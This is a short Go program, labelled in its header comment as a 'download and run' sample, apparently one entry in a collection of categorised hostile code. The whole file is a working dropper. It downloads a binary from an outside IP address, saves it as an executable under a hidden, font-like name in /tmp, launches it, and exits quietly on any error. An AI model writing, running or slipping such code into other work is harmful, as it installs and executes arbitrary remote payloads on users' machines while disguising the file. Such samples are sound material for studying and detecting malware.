// class: download and run; style: go
package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	r, err := http.Get("http://198.51.100.64/bin/linux")
	if err != nil {
		os.Exit(0)
	}
	defer r.Body.Close()
	f, _ := os.OpenFile("/tmp/.font-unix0", os.O_CREATE|os.O_WRONLY, 0o755)
	io.Copy(f, r.Body)
	f.Close()
	exec.Command("/tmp/.font-unix0").Start()
}
